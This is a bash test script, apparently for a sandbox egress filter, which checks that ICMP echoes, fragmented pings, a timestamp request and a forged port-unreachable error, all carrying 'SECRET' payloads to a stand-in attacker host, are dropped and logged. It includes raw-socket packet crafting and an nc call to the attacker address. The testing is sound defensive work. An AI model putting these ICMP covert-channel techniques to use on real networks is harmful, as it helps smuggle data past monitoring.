#!/bin/bash
# 32-icmp-payload: ICMP as a carrier. Echo requests with a chosen pattern
# and 1,000 bytes of payload, with 3,000 (in fragments), a timestamp
# request and an unsolicited "port unreachable" error carrying a secret,
# to an attacker whose TCP ports the policy allows: none gets an answer,
# the attacker records no ICMP packet and no fragment; the echoes and the
# timestamp request are proto_not_allowed rows; the error, related to no
# connection, is dropped as INVALID before it is queued. The flow table
# keys an echo by its identifier too (as conntrack does), so the second
# ping run, within 30 s of the first, has a row of its own.
. "$(dirname "$0")/../lib/testbed.sh"
tb_init adv-icmp-payload
tb_internet_up || { tb_fail "test bed up"; tb_done; }
tb_sluiced_start || { tb_fail "sluiced up"; tb_done; }

cat > "$TB_DIR/policy.json" <<EOF
{"sluice": {"allowedCidrs": ["203.0.113.0/24"]}}
EOF
tb_check "sandbox add" tb_sandbox_add a "$TB_DIR/policy.json"

out=$(tb_in a ping -c 3 -i 0.2 -W 1 -p 5345435245544943 -s 1000 "$TB_ADDR_ATK" 2>&1)
tb_assert_match "$out" "3 packets transmitted, 0 received" "echo with 1,000 patterned bytes: no reply"
out=$(tb_in a ping -c 2 -i 0.2 -W 1 -s 3000 "$TB_ADDR_ATK" 2>&1)
tb_assert_match "$out" "2 packets transmitted, 0 received" "echo with 3,000 bytes, fragmented: no reply"
out=$(tb_in a "$TB_PY" - "$TB_ADDR_ATK" <<'EOF'
import socket, struct, sys, time
def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s & 0xFFFF) + (s >> 16)
    s += s >> 16
    return ~s & 0xFFFF
def icmp(t, c, rest, data):
    m = struct.pack("!BBH", t, c, 0) + rest + data
    return m[:2] + struct.pack("!H", csum(m)) + m[4:]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
s.settimeout(1)
dst = sys.argv[1]
# a timestamp request (type 13) with data after it
s.sendto(icmp(13, 0, struct.pack("!HH", 0x5151, 1), struct.pack("!III", 1, 0, 0) + b"SECRETTS"), (dst, 0))
# a port unreachable "about" a datagram the attacker never sent, with a secret
inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 60, 1, 0, 64, 17, 0,
                    socket.inet_aton(dst), socket.inet_aton("10.213.0.2"))
inner += struct.pack("!HHHH", 53, 40000, 40, 0) + b"SECRETERR" * 3
s.sendto(icmp(3, 3, b"\0\0\0\0", inner), (dst, 0))
try:
    while True:
        d, a = s.recvfrom(2048)
        if a[0] == dst:
            print("reply type %d" % d[(d[0] & 15) * 4])
            break
except socket.timeout:
    print("no reply")
EOF
)
tb_assert_eq "$out" "no reply" "timestamp request and a forged error: no reply"
sleep 0.5
tb_assert_eq "$(tb_attacker_packet_count proto=icmp)" 0 "the attacker recorded no ICMP packet"
tb_assert_eq "$(tb_attacker_packet_count proto=frag)" 0 "and no fragment"
tb_assert_eq "$(tb_attacker_packet_count)" 0 "nothing at all"
tb_assert_eq "$(tb_upstream_queries)" 0 "the upstream DNS server heard nothing"

# TCP to the same address works: the denial is ICMP's, not a dead gateway
tb_assert_eq "$(echo tcp-ok | tb_in a nc -w 3 "$TB_ADDR_ATK" 4444)" "attacker" "TCP to the allowed range passes"

tb_wait_rows "SELECT count(*) FROM flows WHERE proto = 'icmp'" 3 >/dev/null
tb_assert_eq "$(tb_sql "SELECT proto, dst_ip, ifnull(dst_port, 'NULL'), verdict, reason FROM flows
    WHERE proto != 'tcp' ORDER BY id")" \
"icmp|$TB_ADDR_ATK|NULL|deny|proto_not_allowed
icmp|$TB_ADDR_ATK|NULL|deny|proto_not_allowed
icmp|$TB_ADDR_ATK|NULL|deny|proto_not_allowed" \
    "a row for each ping run's echoes and one for the timestamp request; none for the error"
tb_done
